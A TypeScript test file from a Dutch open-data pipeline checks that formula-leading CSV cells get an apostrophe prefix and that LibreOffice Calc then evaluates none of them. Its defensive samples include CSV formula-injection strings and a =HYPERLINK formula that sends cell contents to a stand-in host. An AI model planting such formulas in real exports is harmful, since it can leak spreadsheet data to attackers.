// A hostile source (formulas in an action title, a holder name and texts) through the whole pipeline:
// LibreOffice Calc opens every CSV with formula evaluation on and holds no formula and no computed value.
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spreadsheetSafe, toCsv } from '../../pipeline/emit/csv.js';
import type { Table } from '../../pipeline/emit/tables.js';
import type { Dataset } from '../../pipeline/model.js';
import { runPipeline, type RunResult } from '../../pipeline/run.js';
import { DATA, seedText, runOptions } from '../helpers.js';
import { EMPTY_CELL, SOFFICE, convertToFods, sheets } from '../support/calc.js';
import { CLOCK, SLUG, datasetOf, parseNTriples, textOf } from './release.js';

const NAMES = ['updates', 'themes', 'actions', 'progress', 'organisations', 'roles', 'changes'] as const;
const LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Klik hier")';

/** The bundled Update #2 with formulas where a hostile page could put them. */
function hostileSource(): string {
  const edits: [string, string][] = [
    ['1. Transparantie in de Wet op de politieke partijen', '1. =1+2'],
    ['2. Transparantie verkiezingsproces', `2. ${LEAK}`],
    ['3. Digitale Democratie', '3. ＝1+2'],
    ['Actiehouder: Provincie Noord-Holland', 'Actiehouder: +SUM(1;2)'],
    ['Actiehouder: Ministerie van Algemene Zaken (AZ) en de Voorlichtingsraad\n', 'Actiehouder: Ministerie van Algemene Zaken (AZ) en de Voorlichtingsraad\nIn samenwerking met: -1+1\n'],
    ['De Wet financiering politieke partijen (Wfpp) wordt', '-2+3 De Wet financiering politieke partijen (Wfpp) wordt'],
    ['Sinds 1 januari 2019 zijn', '@SUM(1+1) Sinds 1 januari 2019 zijn'],
    ['De afgelopen maanden is de reeks', "'=1+2 De afgelopen maanden is de reeks"],
  ];
  let text = seedText();
  for (const [from, to] of edits) {
    expect(text.includes(from), from).toBe(true);
    text = text.replace(from, to);
  }
  return text;
}

/** Values the source now holds that a spreadsheet would run, as the parser reads them. */
const HOSTILE = ['=1+2', LEAK, '＝1+2', '+SUM(1;2)', '-1+1'];

let dir: string;
let release: RunResult;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ontsluit-formulas-'));
  const data = join(dir, 'data');
  cpSync(DATA, data, { recursive: true });
  writeFileSync(join(data, 'updates', 'formulas.txt'), hostileSource());
  const sources = { sources: [{ id: '2020-2022-update-02', plan: '2020-2022', place: 'updates/formulas.txt', format: 'text', updateNumber: 2, published: '2021-07-01' }] };
  writeFileSync(join(data, 'formulas-sources.json'), JSON.stringify(sources));
  release = await runPipeline(runOptions({ data, sources: join(data, 'formulas-sources.json'), out: join(dir, 'release'), clock: CLOCK }, { check: false }));
  expect(release.report.errors).toEqual([]);
});

afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const csvRows = (name: string): string[][] => parse(textOf(release, `${SLUG}/${name}.csv`), { bom: true }) as string[][];
interface CsvwGroup {
  'rdfs:comment': { '@value': string; '@language': string }[];
  tables: { url: string; tableSchema: { columns: { name: string; datatype: string }[] } }[];
}
const group = (): CsvwGroup => JSON.parse(textOf(release, `${SLUG}/csv-metadata.json`)) as CsvwGroup;
const tableOf = (name: string) => group().tables.find((t) => t.url === `${name}.csv`)!;

describe('a source with formulas', () => {
  it('keeps the exact source text in dataset.json and the RDF', () => {
    const dataset = datasetOf(release);
    const json = [...dataset.actions.map((a) => a.title), ...dataset.organisations.map((o) => o.name), ...dataset.progress.map((p) => p.text ?? '')];
    for (const value of HOSTILE) expect(json, value).toContain(value);
    expect(dataset.progress.find((p) => p.actionNumber === 1)!.text).toMatch(/^-2\+3 De Wet/);
    expect(dataset.progress.find((p) => p.actionNumber === 3)!.text).toMatch(/^'=1\+2 De afgelopen/);
    const literals = new Set(parseNTriples(textOf(release, `${SLUG}/dataset.nt`)).map((q) => q.object.value));
    for (const value of HOSTILE) expect(literals.has(value), value).toBe(true);
  });

  it('writes each such text cell with one apostrophe in front, and every other cell unchanged', () => {
    const all = NAMES.flatMap((name) => csvRows(name).slice(1).flat());
    for (const value of HOSTILE) {
      expect(all, value).toContain(`'${value}`);
      expect(all, value).not.toContain(value);
    }
    const progress = csvRows('progress');
    const text = progress[0]!.indexOf('text');
    expect(progress.find((r) => r[2] === '1')![text]).toMatch(/^'-2\+3 De Wet/);
    expect(progress.find((r) => r[2] === '2')![text]).toMatch(/^'@SUM\(1\+1\) Sinds/);
    expect(progress.find((r) => r[2] === '3')![text]).toMatch(/^''=1\+2 De afgelopen/);
    expect(progress.find((r) => r[2] === '4')![text]).toMatch(/^Het Open Wob/);
  });

  it('describes the apostrophe in the CSVW table group of all tables, in Dutch and English', () => {
    const meta = group();
    expect(meta.tables.map((t) => t.url)).toEqual(NAMES.map((n) => `${n}.csv`));
    expect(meta['rdfs:comment'].map((c) => c['@language'])).toEqual(['nl', 'en']);
    expect(meta['rdfs:comment'][1]!['@value']).toContain("gets one apostrophe (') in front");
    expect(meta['rdfs:comment'][1]!['@value']).toContain('-3 stays -3');
  });
});

describe('spreadsheetSafe and toCsv', () => {
  it('prefixes every formula start (ASCII and full-width, tab, CR) and apostrophes before one; nothing else', () => {
    const cases: [string, string][] = [
      ['=1+2', "'=1+2"],
      ['+1', "'+1"],
      ['- bullet', "'- bullet"],
      ['-3', "'-3"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\t=1', "'\t=1"],
      ['\r=1', "'\r=1"],
      ['＝1', "'＝1"],
      ['＋1', "'＋1"],
      ['－1', "'－1"],
      ['＠x', "'＠x"],
      ["'=1", "''=1"],
      ["''-1", "'''-1"],
      ["'plain", "'plain"],
      ['a=1', 'a=1'],
      [' =1', ' =1'],
      ['', ''],
    ];
    for (const [input, output] of cases) expect(spreadsheetSafe(input), JSON.stringify(input)).toBe(output);
    // Stripping one apostrophe from a prefixed cell gives the text back.
    for (const [input, output] of cases) if (output !== input) expect(output.slice(1)).toBe(input);
  });

  it('leaves numbers and booleans alone: a negative integer stays -3', () => {
    const table: Table<{ n: number; b: boolean; t: string; l: string[] }> = {
      name: 't',
      titles: { nl: 't', en: 't' },
      description: { nl: 't', en: 't' },
      rows: () => [{ n: -3, b: false, t: '-3', l: ['-a', 'b'] }],
      columns: [
        { name: 'n', titles: { nl: 'n', en: 'n' }, datatype: 'integer', required: true, value: (r) => r.n },
        { name: 'b', titles: { nl: 'b', en: 'b' }, datatype: 'boolean', required: true, value: (r) => r.b },
        { name: 't', titles: { nl: 't', en: 't' }, datatype: 'string', required: true, value: (r) => r.t },
        { name: 'l', titles: { nl: 'l', en: 'l' }, datatype: 'string', required: true, value: (r) => r.l, separator: '; ' },
      ],
      primaryKey: ['n'],
      foreignKeys: [],
    };
    const rows = parse(toCsv(table as Table<unknown>, {} as Dataset), { bom: true }) as string[][];
    expect(rows[1]).toEqual(['-3', 'false', "'-3", "'-a; b"]);
  });
});

// ── LibreOffice ─────────────────────────────────────────────────────────────────────────────────

// CSV import options of LibreOffice (token: value): 1 comma, 2 double quote, 3 UTF-8, 4 from line 1,
// 6 en-US, 7 quoted fields not forced to text, 8 special numbers (dates) detected, 13 evaluate formulas: on.
const CSV_IMPORT = 'Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,false,-1,true';

describe.skipIf(!SOFFICE)('the CSV files opened in LibreOffice Calc (skipped: soffice missing, apt-get install libreoffice-calc-nogui)', () => {
  it('hold no formula and no computed value: every cell is the CSV text, numbers only in integer columns', () => {
    const out = join(dir, 'calc');
    mkdirSync(join(out, 'csv'), { recursive: true });
    const files = NAMES.map((name) => {
      const file = join(out, 'csv', `${name}.csv`);
      writeFileSync(file, textOf(release, `${SLUG}/${name}.csv`));
      return file;
    });
    const run = convertToFods(files, out, CSV_IMPORT);
    expect(run.status, run.output).toBe(0);

    let hostile = 0;
    for (const name of NAMES) {
      const typeOf = tableOf(name).tableSchema.columns.map((c) => c.datatype);
      const csv = csvRows(name);
      const sheet = [...sheets(readFileSync(join(out, `${name}.fods`), 'utf8')).values()][0]!;
      expect(sheet.length, name).toBeGreaterThanOrEqual(csv.length);
      csv.forEach((row, r) =>
        row.forEach((text, c) => {
          const cell = sheet[r]?.[c] ?? EMPTY_CELL;
          const where = `${name}.csv row ${r + 1} column ${c + 1}`;
          expect(cell.formula, where).toBe('');
          // Calc reads integers, ISO dates and true/false as typed values: the same value, in a column of that type.
          const typed = { float: ['integer', cell.value], date: ['date', cell.date], boolean: ['boolean', cell.boolean] }[cell.type];
          if (typed) {
            expect(r > 0 && typeOf[c], `${where}: a ${cell.type} outside a ${typed[0]} column`).toBe(typed[0]);
            expect(typed[1], where).toBe(text);
          } else {
            expect(cell.type, where).toBe(text === '' ? '' : 'string');
            expect(cell.text, where).toBe(text);
          }
          if (HOSTILE.some((h) => text === `'${h}`)) hostile++;
        }),
      );
    }
    expect(hostile).toBeGreaterThanOrEqual(HOSTILE.length);
  }, 120_000);
});
